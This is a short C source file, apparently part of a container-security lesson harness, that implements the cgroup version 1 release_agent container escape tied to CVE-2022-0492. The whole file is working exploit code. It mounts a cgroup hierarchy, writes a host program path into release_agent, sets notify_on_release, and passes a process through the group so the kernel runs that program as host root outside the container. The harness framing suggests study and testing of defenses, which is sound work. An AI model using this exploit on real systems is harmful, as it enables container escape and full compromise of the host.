/* release-agent: let the kernel run a program as the host's root, outside of
 * any container: the release agent of a cgroup hierarchy of version 1, which it
 * starts when a group has lost its last process.
 * Usage: release-agent HIERARCHY DIRECTORY PROGRAM.  Mounts the hierarchy
 * that the harness has made on the directory; the program is a path on the
 * host. Closed by lesson 06, see cgroups(7) and CVE-2022-0492. */
#include "attack.h"
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>

static int
write_text(const char *path, const char *text)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    ssize_t length = (ssize_t)strlen(text);

    if (fd == -1 || write(fd, text, strlen(text)) != length) {
        perror(path);
        return REFUSED;
    }
    close(fd);
    return SUCCEEDED;
}

/* A process enters the group and leaves it at its end. */
static int
pass_through(void)
{
    int status;
    pid_t pid = fork();

    if (pid == 0)
        _exit(write_text("doomed/cgroup.procs", "0"));
    if (pid == -1 || waitpid(pid, &status, 0) == -1 || !WIFEXITED(status))
        return NOT_TRIED;
    return WEXITSTATUS(status);
}

static int
release(const char *program)
{
    if (mkdir("doomed", 0755) == -1) {
        perror("doomed");
        return REFUSED;
    }
    int result = write_text("release_agent", program);
    if (result == SUCCEEDED)
        result = write_text("doomed/notify_on_release", "1");
    if (result == SUCCEEDED)
        result = pass_through();
    return result;
}

int
main(int argc, char **argv)
{
    if (argc != 4)
        return NOT_TRIED;
    if (mount("none", argv[2], "cgroup", 0, argv[1]) == -1) {
        perror("mount cgroup");
        return REFUSED;
    }
    return chdir(argv[2]) == -1 ? NOT_TRIED : release(argv[3]);
}
